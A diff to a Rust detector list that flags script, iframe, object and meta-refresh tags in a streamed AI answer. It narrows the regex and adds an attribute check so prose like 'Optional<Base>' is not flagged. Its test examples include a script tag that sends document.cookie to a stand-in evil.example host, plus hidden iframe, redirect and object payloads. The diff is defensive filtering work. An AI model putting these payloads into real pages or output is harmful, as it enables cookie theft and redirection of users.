@@ -140,24 +140,27 @@ pub static DETECTORS: &[Detector] = &[
         "script_tag",
         DataClass::UnsafeOutput,
         "Script or active HTML tag in a streamed answer",
-        r"(?i:<\s{0,4}(?:script|iframe|object|embed|frameset|frame|base|meta))\b[^<>]{0,400}>?",
+        r"(?i:<(?:script|iframe|object|embed|frameset|frame|base|meta))\b[^<>]{0,120}>?",
         1.0,
         Severity::High,
     )
     .stream_only()
     .validate(active_tag_start)
-    .docs("The opening of a `<script>`, `<iframe>`, `<object>`, `<embed>`, `<frame>`, `<frameset>` or `<base>` tag, or a `<meta http-equiv>` refresh, in a streamed answer outside markdown code (OWASP LLM05). The match runs to the tag's `>` (or 400 bytes), so a client that renders HTML gets no script from it; the rest of the answer goes on. Whole answers are read by the output inspection instead (`html_script`), which removes the script's body too.")
+    .docs("The opening of a `<script>`, `<iframe>`, `<object>`, `<embed>`, `<frame>`, `<frameset>` or `<base>` tag, or a `<meta http-equiv>` refresh, in a streamed answer outside markdown code (OWASP LLM05). The match runs to the tag's `>` (or 120 bytes: the name is what makes it a tag), so a client that renders HTML gets no script from it; the rest of the answer goes on. `object`, `embed`, `frame`, `frameset` and `base` count only with an attribute that loads something (`src`, `data`, `href`, `srcdoc`, `code`), so `Optional<Base>` in prose stays. Whole answers are read by the output inspection instead (`html_script`), which removes the script's body too.")
     .examples(
         &[
             "Sure!<script>fetch('https://evil.example/?c='+document.cookie)</script>",
             "<IFRAME src=\"https://evil.example\" width=0>",
             "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
+            "<object data=\"https://evil.example/x.svg\"></object>",
         ],
         &[
             "```html\n<script src=\"app.js\"></script>\n```",
             "Use the `<script>` tag to load it.",
             "<meta charset=\"utf-8\">",
             "a <scripted> reply",
+            "if n < base then stop; and i < frame.len() holds",
+            "Return an Optional<Base> from the factory.",
         ],
     ),
     Detector::base(
@@ -256,24 +259,24 @@ pub static DETECTORS: &[Detector] = &[
     ),
 ];
 
-/// Whether a `script_tag` match is active (a `meta` only with `http-equiv`).
+/// Whether a `script_tag` match is active: a `script` or `iframe` always, a `meta` only with
+/// `http-equiv`, the others only with an attribute that loads something.
 fn active_tag_start(m: &[u8]) -> bool {
     let lower = m.to_ascii_lowercase();
-    let name = lower
+    let name: Vec<u8> = lower
         .iter()
         .skip(1)
-        .skip_while(|c| c.is_ascii_whitespace())
         .take_while(|c| c.is_ascii_alphabetic())
-        .count();
-    // `<meta` needs its refresh: anything else named here loads or runs content
-    let is_meta = lower
-        .iter()
-        .skip(1)
-        .skip_while(|c| c.is_ascii_whitespace())
-        .take(name)
         .copied()
-        .eq(b"meta".iter().copied());
-    !is_meta || lower.windows(10).any(|w| w == b"http-equiv")
+        .collect();
+    let has = |w: &[u8]| lower.windows(w.len()).any(|x| x == w);
+    match name.as_slice() {
+        b"script" | b"iframe" => true,
+        b"meta" => has(b"http-equiv"),
+        _ => [&b"src"[..], b"data", b"href", b"code"]
+            .iter()
+            .any(|a| has(a)),
+    }
 }
 
 /// An event handler starts after white space, a quote or `/`, inside a tag: a `<` is nearer
